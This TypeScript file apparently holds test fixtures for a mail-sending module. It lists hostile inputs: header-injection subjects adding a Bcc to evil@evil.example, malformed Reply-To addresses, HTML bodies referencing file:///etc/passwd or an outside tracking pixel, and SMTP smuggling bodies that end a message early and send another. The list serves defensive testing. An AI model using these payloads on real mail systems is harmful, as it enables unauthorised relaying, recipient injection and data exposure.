import type { RenderedMail } from '../../../../core/handoff/delivery.ts';

/** Header injection: each tries to add a header or a recipient, or to be another address than it looks. */
export const hostileSubjects: readonly string[] = [
  'Hi\r\nBcc: evil@evil.example',
  'Hi\nBcc: evil@evil.example',
  'Hi\rBcc: evil@evil.example',
  'Hi\r\n\r\nA body of its own',
  'Hi\u2028Bcc: evil@evil.example',
  'Hi\u0085Bcc: evil@evil.example',
  'Hi\0Bcc: evil@evil.example',
  '=?UTF-8?Q?Hi=0D=0ABcc:_evil@evil.example?=',
  '=?utf-8?B?SGkNCkJjYzogZXZpbEBldmlsLmV4YW1wbGU=?=',
  `Hi${' '.repeat(900)}\r\nBcc: evil@evil.example`,
  'Hi \u202Etxt.exe',
  'Hi\u200B there',
  'Hi\uD800 there',
];

export const hostileReplyTos: readonly string[] = [
  'v@v.example, evil@evil.example',
  'v@v.example\r\nBcc: evil@evil.example',
  '"a@gmail.com x"@internal.example',
  'Boss <boss@corp.example>',
  'friends: v@v.example;',
  'v@v.example; evil@evil.example',
  'v@v.example (comment)',
  'v@[127.0.0.1]',
  'v@v.example>\r\nTo: <evil@evil.example',
];

/** In the HTML part a visitor's words were escaped before; nothing more may be fetched, read or added for them. */
export const hostileBodies: readonly Pick<RenderedMail, 'text' | 'html'>[] = [
  '<img src="file:///etc/passwd">',
  '<img src="http://evil.example/pixel.png">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<script>alert(1)</script>',
  '<a href="cid:evil">x</a>',
  '--boundary\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
  '----_NmP-0000000000000000-Part_1\r\nContent-Disposition: attachment\r\n\r\nMZ',
  'Content-Type: multipart/mixed; boundary=x\r\n\r\n--x--',
  '{"path":"/etc/passwd"}',
  '/etc/passwd',
].map((text) => ({ text, html: `<p>${text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</p>` }));

/** SMTP smuggling: each tries to end the message early and to send another one. */
export const smugglingBodies: readonly string[] = [
  '\r\n.\r\nMAIL FROM:<evil@evil.example>\r\nRCPT TO:<evil@evil.example>\r\nDATA\r\nHi\r\n.\r\n',
  '\n.\nMAIL FROM:<evil@evil.example>\nRCPT TO:<evil@evil.example>\nDATA\nHi\n.\n',
  '\r.\rMAIL FROM:<evil@evil.example>\rRCPT TO:<evil@evil.example>\rDATA\rHi\r.\r',
  '\n.\r\nMAIL FROM:<evil@evil.example>\r\nRCPT TO:<evil@evil.example>\r\nDATA\r\n',
  '\r\n.\nMAIL FROM:<evil@evil.example>\nRCPT TO:<evil@evil.example>\nDATA\n',
  '\r\n\0.\r\nMAIL FROM:<evil@evil.example>\r\n.\r\r\n.\r\r\n',
];
